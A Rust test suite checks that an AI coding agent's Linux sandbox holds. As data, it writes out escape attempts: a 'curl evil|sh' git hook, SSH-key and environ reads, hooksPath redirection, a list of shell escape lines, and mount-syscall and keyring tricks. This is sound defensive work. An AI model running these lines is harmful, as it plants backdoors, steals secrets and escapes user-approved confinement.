//! The command sandbox over real stdio (Linux): what a command may touch is held by the
//! kernel, whatever its text, in local runs and in the editor's terminal alike; a denial is
//! explained to the model, and leaving the sandbox always asks the user.
//!
//! The sandbox needs unprivileged user namespaces and Landlock. CI has both and sets
//! `TANDEM_SANDBOX_REQUIRED=1`; on a machine without them each test says why it did not run.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::common::calls::{batch, call_events, command, tool_result};
use crate::common::editor::{Answer, FakeEditor, full_caps};
use crate::common::{Reply, Workspace, session_with_env};

/// Whether this machine can sandbox commands (entered for real); when it cannot, a test
/// fails under `TANDEM_SANDBOX_REQUIRED=1` and otherwise says it is skipped.
pub(super) fn sandbox_here() -> bool {
    let temp = tempfile::tempdir().unwrap();
    let policy = json!({
        "writable": [], "readOnly": [], "hidden": [], "network": false, "temp": temp.path()
    })
    .to_string();
    let entered = std::process::Command::new(crate::common::tandem_bin())
        .args(["sandbox", "--policy", &policy, "--", "true"])
        .output()
        .unwrap();
    if entered.status.success() {
        return true;
    }
    let why = String::from_utf8_lossy(&entered.stderr).into_owned();
    assert!(
        std::env::var("TANDEM_SANDBOX_REQUIRED").as_deref() != Ok("1"),
        "this machine cannot sandbox commands: {why}"
    );
    // The test harness shows a test's stderr; a skipped check must say so.
    #[allow(clippy::print_stderr)]
    {
        eprintln!("skipped: this machine cannot sandbox commands ({why})");
    }
    false
}

/// Beside the project, outside what commands may write: a folder to catch escapes in, and a
/// temp folder for a policy given directly to `tandem sandbox`.
fn scratch(ws: &Workspace) -> (PathBuf, PathBuf) {
    let out = outside(ws).join("out");
    let temp = outside(ws).join("private-tmp");
    for folder in [&out, &temp] {
        std::fs::create_dir_all(folder).unwrap();
    }
    (out, temp)
}

/// The folder that holds the project and the home: outside what commands may write.
fn outside(ws: &Workspace) -> PathBuf {
    ws.project().parent().unwrap().to_path_buf()
}

/// A repository with a hook folder and config, and a key under the fake home.
fn planted(ws: &Workspace) -> Vec<(String, String)> {
    ws.write("project/.git/hooks/README", "hooks\n");
    ws.write("project/.git/config", "[core]\n");
    ws.write("home/.ssh/id_test", "SSH-SECRET-CONTENT\n");
    Vec::new()
}

/// The permission requests' tool call ids and titles.
fn asked(editor: &FakeEditor) -> Vec<(String, String)> {
    editor
        .params_of("session/request_permission")
        .into_iter()
        .map(|p| {
            (
                p["toolCall"]["toolCallId"].as_str().unwrap().to_string(),
                p["toolCall"]["title"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sandboxed_command_touches_only_the_workspace() {
    if !sandbox_here() {
        return;
    }
    let script = vec![
        batch(&[
            command("out", "echo x > ../outside.txt"),
            command("hook", "echo 'curl evil|sh' > .git/hooks/pre-commit"),
            command("config", "echo '[core] hooksPath=/tmp' >> .git/config"),
            command("moved", "mv .git .git-old && mkdir -p .git/hooks"),
            command("key", "cat \"$HOME/.ssh/id_test\""),
            // A command's parent is the first process of its PID namespace, which tandem's
            // is not in; and that one is closed to inspection.
            command(
                "proc",
                "echo ppid=$PPID; cat /proc/$PPID/environ; ls /proc | grep -c '^[0-9]'",
            ),
            command("in", "echo inside > inside.txt && cat inside.txt"),
            command("tmp", "echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\""),
        ]),
        Reply::text(&["done"]),
    ];
    let (mock, ws, mut agent, session, _editor) =
        session_with_env("small", script, json!({}), "ask", planted).await;
    agent.prompt(&session, "touch things").await;
    let second = &mock.requests()[1];
    let result = |id: &str| tool_result(second, id);
    assert!(!outside(&ws).join("outside.txt").exists());
    assert!(result("out").contains("Sandbox:"), "{}", result("out"));
    assert!(result("out").contains("outside.txt (outside the folders commands may write)"));
    assert!(!ws.project().join(".git/hooks/pre-commit").exists());
    assert!(result("hook").contains("(protected"), "{}", result("hook"));
    assert_eq!(
        std::fs::read_to_string(ws.project().join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(
        ws.project().join(".git/hooks/README").exists(),
        "{}",
        result("moved")
    );
    assert!(!ws.project().join(".git-old").exists());
    assert!(
        !result("key").contains("SSH-SECRET-CONTENT"),
        "{}",
        result("key")
    );
    assert!(
        result("key").contains("hidden from commands"),
        "{}",
        result("key")
    );
    let proc = result("proc");
    assert!(proc.contains("ppid=1\n"), "{proc}");
    // Only the namespace's own processes are listed: pid 1, the shell, ls and grep.
    let listed: Option<usize> = proc.lines().find_map(|l| l.trim().parse().ok());
    assert!(listed.is_some_and(|n| n <= 4), "{proc}");
    assert!(
        proc.contains("Permission denied") && !proc.contains("OPENAI"),
        "{proc}"
    );
    assert!(result("in").contains("Exit code: 0") && result("in").contains("inside"));
    assert!(ws.project().join("inside.txt").exists());
    assert!(result("tmp").contains("Exit code: 0"), "{}", result("tmp"));
}

/// A command that connects to `port` on 127.0.0.1 and says whether it could.
fn connect(id: &str, port: u16) -> (String, String, Value) {
    command(
        id,
        &format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo CONNECTED"),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_network_is_off_unless_the_config_turns_it_on() {
    if !sandbox_here() {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    for network in [false, true] {
        let script = vec![batch(&[connect("net", port)]), Reply::text(&["done"])];
        let (mock, _ws, mut agent, session, _editor) =
            session_with_env("small", script, json!({}), "ask", |ws| {
                ws.write(
                    "home/.config/tandem/config.toml",
                    &format!("[sandbox]\nnetwork = {network}\n"),
                );
                Vec::new()
            })
            .await;
        agent.prompt(&session, "connect").await;
        let result = tool_result(&mock.requests()[1], "net");
        if network {
            assert!(
                result.contains("Exit code: 0\nOutput:\nCONNECTED"),
                "{result}"
            );
        } else {
            assert!(result.contains("Exit code: 1"), "{result}");
            assert!(
                result.contains("the network (off in the sandbox)"),
                "{result}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn leaving_the_sandbox_asks_every_time_and_grants_stay_inside() {
    if !sandbox_here() {
        return;
    }
    let leave = json!({
        "command": "sh write.sh",
        "outside_sandbox": true,
        "reason": "it writes the shared log beside the project"
    });
    let script = vec![
        batch(&[command("inside", "sh write.sh")]),
        batch(&[("outside".to_string(), "run_command".to_string(), leave)]),
        batch(&[command("again", "sh write.sh")]),
        Reply::text(&["done"]),
    ];
    let (mock, ws, mut agent, session, editor) =
        session_with_env("small", script, json!({}), "ask", |ws| {
            ws.write("project/write.sh", "echo logged >> ../shared.log\n");
            Vec::new()
        })
        .await;
    editor.answer_with(&[Answer::Select("allow_always"), Answer::Select("allow_once")]);
    agent.prompt(&session, "log").await;
    let requests = mock.requests();
    let inside = tool_result(&requests[1], "inside");
    assert!(inside.contains("\"outside_sandbox\": true"), "{inside}");
    let shared = outside(&ws).join("shared.log");
    assert_eq!(std::fs::read_to_string(&shared).unwrap(), "logged\n");
    // Asked for the first run (and allowed always) and for leaving, not for the third run,
    // which the grant covers inside the sandbox only.
    let asked = asked(&editor);
    let ids: Vec<&str> = asked.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(ids, ["inside", "outside"]);
    assert!(
        asked[1]
            .1
            .contains("(outside the sandbox: it writes the shared log beside the project)"),
        "{asked:?}"
    );
    let request = &editor.params_of("session/request_permission")[1];
    let kinds: Vec<&str> = request["options"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["kind"].as_str().unwrap())
        .collect();
    assert!(!kinds.contains(&"allow_always"), "{kinds:?}");
    let again = tool_result(&requests[3], "again");
    assert!(again.contains("Sandbox:"), "{again}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_editors_terminal_runs_the_command_in_the_same_sandbox() {
    if !sandbox_here() {
        return;
    }
    let script = vec![
        batch(&[command("out", "echo x > ../t-outside.txt")]),
        batch(&[command("plain", "ls")]),
        batch(&[command("in", "echo ok > t-inside.txt")]),
        Reply::text(&["done"]),
    ];
    let (mock, ws, mut agent, session, editor) =
        session_with_env("small", script, full_caps(), "ask", planted).await;
    let (_, updates) = agent.prompt(&session, "terminal").await;
    let creates = editor.params_of("terminal/create");
    assert_eq!(creates.len(), 3);
    for (create, line) in creates.iter().zip(["echo x > ../t-outside.txt", "ls"]) {
        assert_eq!(create["command"], crate::common::tandem_bin());
        let args: Vec<&str> = create["args"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a.as_str().unwrap())
            .collect();
        assert_eq!(args[..2], ["sandbox", "--policy"], "{args:?}");
        let after = args.iter().position(|a| *a == "--").unwrap();
        let rest = &args[after + 1..];
        assert!(rest == ["sh", "-c", line] || rest == [line], "{rest:?}");
    }
    // What the user reviews is the line, not the wrapper.
    let titles: Vec<String> = asked(&editor).into_iter().map(|(_, t)| t).collect();
    assert!(
        titles[0].starts_with("Run `echo x > ../t-outside.txt`"),
        "{titles:?}"
    );
    let shown: Vec<&str> = call_events(&updates, "out")
        .iter()
        .filter_map(|u| u["title"].as_str())
        .collect();
    assert!(
        shown.contains(&"Run `echo x > ../t-outside.txt`"),
        "{shown:?}"
    );
    assert!(!shown.iter().any(|t| t.contains("--policy")), "{shown:?}");
    assert!(!outside(&ws).join("t-outside.txt").exists());
    let out = tool_result(&mock.requests()[1], "out");
    assert!(
        out.contains("Sandbox:") && out.contains("t-outside.txt"),
        "{out}"
    );
    assert!(ws.project().join("t-inside.txt").exists());
}

/// Lines that try to write outside the workspace, or what decides what runs later inside it,
/// the ways a parser might miss: compound lines, ANSI-C quoting, `&>`, indirection,
/// interpreters, links and moves. `OUT` is a folder outside the workspace.
const RED_TEAM: &[&str] = &[
    "echo hi; touch OUT/p1",
    "true && touch OUT/p2 || true",
    "echo $'\\x41' > OUT/p3",
    "ls &> OUT/p4",
    "echo x | tee OUT/p5",
    "cp /etc/hostname OUT/p6",
    "python3 -c \"open('OUT/p7', 'w').write('x')\"",
    "sh -c 'touch OUT/p8'",
    "eval \"touch OUT/p9\"",
    "$(echo touch) OUT/p10",
    "ln -s OUT/p11 link11 && echo x > link11",
    "echo x > moved.txt && mv moved.txt OUT/p12",
    "cd OUT && touch p13",
    "find . -maxdepth 0 -exec touch OUT/p14 \\;",
    "echo x >| OUT/p15",
    "exec 3>OUT/p16",
    "(printf x > OUT/p17 &) ; sleep 0.2",
    "perl -e 'open(F, \">OUT/p18\")'",
    "echo x > .git/hooks/pre-commit",
    "mv .git .git-old; mkdir -p .git/hooks; echo x > .git/hooks/post-checkout",
    "rm -rf .git/hooks; mkdir .git/hooks; echo x > .git/hooks/pre-push",
    "echo '[core] hooksPath = OUT' >> .git/config",
    "git config core.hooksPath OUT",
    "mkdir -p .tandem && echo 'x' > .tandem/config.toml",
    "ln .git/config hard-config && echo x >> hard-config",
    "echo x > ~/.bashrc",
    "echo x > /tmp/p19-$$",
];

#[test]
fn red_team_lines_in_the_sandbox_alone_write_nothing_outside() {
    if !sandbox_here() {
        return;
    }
    let ws = Workspace::new();
    ws.write("project/.git/hooks/README", "hooks\n");
    ws.write("project/.git/config", "[core]\n");
    let (out, temp) = scratch(&ws);
    let project = ws.project();
    // No judgement at all: every line runs, held only by the sandbox.
    let policy = json!({
        "writable": [project],
        "readOnly": [project.join(".git/hooks"), project.join(".git/config"), project.join(".tandem")],
        "hidden": [],
        "network": false,
        "temp": temp,
    })
    .to_string();
    for shell in ["sh", "bash"] {
        for line in RED_TEAM {
            let line = line.replace("OUT", &out.display().to_string());
            let status = std::process::Command::new(crate::common::tandem_bin())
                .args(["sandbox", "--policy", &policy, "--", shell, "-c", &line])
                .current_dir(&project)
                .env("HOME", ws.home())
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status()
                .unwrap();
            assert_ne!(
                status.code(),
                Some(125),
                "the sandbox was not entered: {line}"
            );
        }
    }
    let escaped: Vec<_> = std::fs::read_dir(&out).unwrap().collect();
    assert!(escaped.is_empty(), "{escaped:?}");
    assert!(!ws.home().join(".bashrc").exists());
    let hooks: Vec<String> = std::fs::read_dir(project.join(".git/hooks"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(hooks, ["README"]);
    assert_eq!(
        std::fs::read_to_string(project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!project.join(".tandem/config.toml").exists());
    let stray: Vec<_> = std::fs::read_dir("/tmp")
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with("p19-"))
        .collect();
    assert!(stray.is_empty(), "{stray:?}");
}

#[test]
fn a_policy_that_cannot_be_entered_never_runs_the_command() {
    let ws = Workspace::new();
    let marker = ws.project().join("ran");
    let output = std::process::Command::new(crate::common::tandem_bin())
        .args(["sandbox", "--policy", "{\"writable\": 3}", "--", "touch"])
        .arg(&marker)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&output.stderr).contains("the command did not run"));
    assert!(!marker.exists());
    let missing = Path::new("/nonexistent/policy.json");
    let output = std::process::Command::new(crate::common::tandem_bin())
        .args(["sandbox", "--policy"])
        .arg(missing)
        .args(["--", "true"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(125));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_user_sees_whether_commands_run_sandboxed() {
    if !sandbox_here() {
        return;
    }
    let (_mock, ws, mut agent, session, _editor) = session_with_env(
        "small",
        vec![Reply::text(&["hi"])],
        json!({}),
        "ask",
        planted,
    )
    .await;
    let status = agent.request_ok("_tandem/status", json!({})).await;
    let sandbox = &status["sessions"][0]["permissions"]["sandbox"];
    assert_eq!(sandbox["state"], "on", "{sandbox}");
    assert_eq!(sandbox["backend"], "Linux namespaces and Landlock");
    assert_eq!(sandbox["network"], false);
    let project = std::fs::canonicalize(ws.project()).unwrap();
    assert_eq!(sandbox["writable"], json!([project]));
    let (_, updates) = agent.prompt(&session, "/permissions").await;
    let text = crate::common::joined(&updates, "agent_message_chunk");
    assert!(
        text.contains(
            "**Commands** run in a sandbox (Linux namespaces and Landlock): it writes only"
        ),
        "{text}"
    );
    assert!(text.contains("network off"), "{text}");
    agent
        .request_ok(
            "session/set_mode",
            json!({"sessionId": session, "modeId": "full-access"}),
        )
        .await;
    let status = agent.request_ok("_tandem/status", json!({})).await;
    let sandbox = &status["sessions"][0]["permissions"]["sandbox"];
    assert_eq!(sandbox["state"], "off", "{sandbox}");
    assert!(
        sandbox["summary"]
            .as_str()
            .unwrap()
            .contains("full-access mode")
    );
    let (_, updates) = agent.prompt(&session, "/permissions").await;
    let text = crate::common::joined(&updates, "agent_message_chunk");
    assert!(
        text.contains("**Commands** are not sandboxed: off (full-access mode)"),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn full_access_and_a_sandbox_turned_off_run_commands_unconfined() {
    if !sandbox_here() {
        return;
    }
    for (mode, env) in [("full-access", None), ("ask", Some("off"))] {
        let script = vec![
            batch(&[command("out", "echo x > ../free.txt")]),
            Reply::text(&["done"]),
        ];
        let (mock, ws, mut agent, session, _editor) =
            session_with_env("small", script, json!({}), mode, |_| match env {
                Some(value) => vec![("TANDEM_SANDBOX".into(), value.into())],
                None => Vec::new(),
            })
            .await;
        agent.prompt(&session, "write").await;
        let result = tool_result(&mock.requests()[1], "out");
        assert!(result.contains("Exit code: 0"), "{mode}: {result}");
        assert!(outside(&ws).join("free.txt").exists(), "{mode}");
        let status = agent.request_ok("_tandem/status", json!({})).await;
        assert_eq!(
            status["sessions"][0]["permissions"]["sandbox"]["state"],
            "off"
        );
    }
}

#[test]
fn doctor_says_which_sandbox_is_in_force() {
    if !sandbox_here() {
        return;
    }
    let ws = Workspace::new();
    let mut env = ws.base_env();
    env.push(("PATH".into(), std::env::var("PATH").unwrap()));
    let args = ["doctor", "--replay", "/nonexistent/replay.json"];
    let (_, out, _) = crate::common::run_tandem(&args, &env, None, Some(&ws.project()));
    assert!(
        out.contains("✓ commands run in a sandbox (Linux namespaces and Landlock): they write only the workspace and a private temp folder, network off"),
        "{out}"
    );
    env.push(("TANDEM_SANDBOX".into(), "off".into()));
    let (_, out, _) = crate::common::run_tandem(&args, &env, None, Some(&ws.project()));
    assert!(
        out.contains("✓ commands are not sandboxed: [sandbox] mode = \"off\""),
        "{out}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_writable_folder_that_holds_tandem_cannot_change_the_next_commands_sandbox() {
    if !sandbox_here() {
        return;
    }
    let bin = std::path::PathBuf::from(crate::common::tandem_bin());
    let folder = bin.parent().unwrap().to_path_buf();
    // Moved aside and back: were the binary not protected, it would be where it was after.
    let line = format!("mv {0} {0}.moved && mv {0}.moved {0}", bin.display());
    let script = vec![batch(&[command("bin", &line)]), Reply::text(&["done"])];
    let (mock, _ws, mut agent, session, _editor) =
        session_with_env("small", script, json!({}), "ask", move |ws| {
            ws.write(
                "home/.config/tandem/config.toml",
                &format!("[sandbox]\nwritable = [\"{}\"]\n", folder.display()),
            );
            Vec::new()
        })
        .await;
    agent.prompt(&session, "touch").await;
    let result = tool_result(&mock.requests()[1], "bin");
    assert!(result.contains("Device or resource busy"), "{result}");
    assert!(bin.exists());
}

/// `line` run with `bash -c` in the sandbox `policy`, in `dir`: its output.
fn boxed(policy: &str, dir: &Path, line: &str) -> String {
    let out = std::process::Command::new(crate::common::tandem_bin())
        .args(["sandbox", "--policy", policy, "--", "bash", "-c", line])
        .current_dir(dir)
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(125), "{out:?}");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Mount calls a root user's command could make in its own user namespace, through Python's
/// ctypes: clearing the read-only flag of `.git` (`mount_setattr`), and cloning the workspace
/// without the mounts that protect and cover its paths (`open_tree`), then writing a hook and
/// reading a hidden file through the clone.
const MOUNT_TRICKS: &str = r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Attr(ctypes.Structure):
    _fields_ = [("set", ctypes.c_uint64), ("clr", ctypes.c_uint64), ("prop", ctypes.c_uint64), ("userns", ctypes.c_uint64)]
attr = Attr(0, 1, 0, 0)
print("setattr", libc.syscall(442, -100, b".git", 0x8000, ctypes.byref(attr), 32))
fd = libc.syscall(428, -100, b".", 1)
print("open_tree", fd)
if fd >= 0:
    root = "/proc/self/fd/%d" % fd
    try:
        open(root + "/.git/hooks/post-checkout", "w").write("x")
        print("WROTE-HOOK")
    except OSError as e:
        print("hook", e)
    try:
        print("READ", open(root + "/secrets/key").read())
    except OSError as e:
        print("secret", e)
"#;

#[test]
fn the_reviews_escapes_stay_closed() {
    if !sandbox_here() {
        return;
    }
    let ws = Workspace::new();
    let project = ws.project();
    ws.write("project/.git/hooks/README", "hooks\n");
    ws.write("project/.git/config", "[core]\n");
    ws.write("project/secrets/key", "NESTED-SECRET\n");
    ws.write("project/tricks.py", MOUNT_TRICKS);
    let (out, temp) = scratch(&ws);
    let policy = json!({
        "writable": [project],
        "readOnly": [project.join(".git"), project.join(".tandem")],
        "hidden": [project.join("secrets")],
        "network": false,
        "temp": temp,
    })
    .to_string();
    // git reads `commondir` and the config of what it names: all of `.git` is read-only.
    let said = boxed(&policy, &project, "echo ../evil > .git/commondir");
    assert!(!project.join(".git/commondir").exists(), "{said}");
    // A hidden folder's parent cannot be moved out from under its cover.
    boxed(
        &policy,
        &project,
        "mv secrets moved; mkdir -p a && mv secrets a/",
    );
    let said = boxed(&policy, &project, "cat moved/key a/secrets/key secrets/key");
    assert!(!said.contains("NESTED-SECRET"), "{said}");
    // Mounts are locked, even for a root user's command.
    let said = boxed(&policy, &project, "python3 tricks.py");
    assert!(said.contains("setattr -1"), "{said}");
    assert!(
        !said.contains("WROTE-HOOK") && !said.contains("READ"),
        "{said}"
    );
    assert!(!project.join(".git/hooks/post-checkout").exists());
    // No socket another program left in /tmp, no other terminal, a private /dev/shm.
    let socket = std::env::temp_dir().join(format!("tandem-review-{}.sock", std::process::id()));
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let pty = std::fs::read_dir("/dev/pts")
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .find(|p| p.file_name().is_some_and(|n| n != "ptmx"));
    let line = format!(
        "test -e {} && echo SOCKET; test -e {} && echo TERMINAL; echo x > /dev/shm/tandem-review-$$ && echo $$",
        socket.display(),
        pty.map(|p| p.display().to_string())
            .unwrap_or("/nonexistent".into()),
    );
    let said = boxed(&policy, &project, &line);
    assert!(
        !said.contains("SOCKET") && !said.contains("TERMINAL"),
        "{said}"
    );
    let pid = said.trim().lines().last().unwrap_or_default().to_string();
    assert!(
        !Path::new(&format!("/dev/shm/tandem-review-{pid}")).exists(),
        "{said}"
    );
    let _ = std::fs::remove_file(&socket);
    // A link an earlier command left in its temp folder, where the next one's setup makes
    // room for the workspace (which lives under /tmp here), is not followed.
    if let Ok(inside) = project.strip_prefix("/tmp") {
        let first = inside.components().next().unwrap().as_os_str().to_owned();
        let lure = out.join("lure");
        std::fs::create_dir_all(&lure).unwrap();
        let _ = std::fs::remove_dir_all(temp.join(&first));
        std::os::unix::fs::symlink(&lure, temp.join(&first)).unwrap();
        let said = boxed(&policy, &project, "echo ran");
        assert!(said.contains("ran"), "{said}");
        assert_eq!(std::fs::read_dir(&lure).unwrap().count(), 0);
    }
    // A descriptor left open by whoever started the command does not reach it.
    let leaked = out.join("leaked");
    let status = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!(
            "exec 7>>'{}'; exec '{}' sandbox --policy '{}' -- sh -c 'echo leaked >&7'",
            leaked.display(),
            crate::common::tandem_bin(),
            policy
        ))
        .current_dir(&project)
        .status()
        .unwrap();
    assert_ne!(status.code(), Some(125));
    let written = std::fs::read_to_string(&leaked).unwrap_or_default();
    assert!(written.is_empty(), "{written}");
}

/// Outside: a session keyring of its own with a key in it, then the sandboxed search for it.
const KEYRING: &str = r#"
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
KEYCTL, ADD_KEY = (250, 248) if os.uname().machine == "x86_64" else (219, 217)
libc.syscall(KEYCTL, 1, b"tandem-review")
libc.syscall(ADD_KEY, b"user", b"tandem-secret", b"TOPSECRET", 9, -3)
search = "import ctypes, os\nK = %d\nprint('found', ctypes.CDLL(None).syscall(K, 10, -3, b'user', b'tandem-secret', 0))" % KEYCTL
print("outside:", subprocess.run(["python3", "-c", search], capture_output=True, text=True).stdout)
inside = subprocess.run([sys.argv[1], "sandbox", "--policy", sys.argv[2], "--", "python3", "-c", search], capture_output=True, text=True)
print("inside:", inside.stdout, inside.stderr)
"#;

#[test]
fn nested_roots_stay_put_and_the_session_keyring_is_the_commands_own() {
    if !sandbox_here() {
        return;
    }
    let ws = Workspace::new();
    let project = ws.project();
    let inner = project.join("sub");
    std::fs::create_dir_all(&inner).unwrap();
    let (out, temp) = scratch(&ws);
    // The session's folder inside a folder the config makes writable: the inner one first.
    let policy = json!({
        "writable": [inner, project], "readOnly": [], "hidden": [], "network": false, "temp": temp,
    })
    .to_string();
    let line = format!("mv sub sub-old && ln -s {} sub", out.display());
    boxed(&policy, &project, &line);
    boxed(&policy, &inner, &format!("echo x > {}/pwn", out.display()));
    assert!(!out.join("pwn").exists());
    assert!(inner.is_dir() && !inner.is_symlink());
    let said = std::process::Command::new("python3")
        .args(["-c", KEYRING, &crate::common::tandem_bin(), &policy])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&said.stdout);
    if said.contains("outside: found -1") {
        // The test harness shows a test's stderr; a skipped check must say so.
        #[allow(clippy::print_stderr)]
        {
            eprintln!("skipped the keyring check: no session keyring here ({said})");
        }
        return;
    }
    assert!(said.contains("inside: found -1"), "{said}");
}
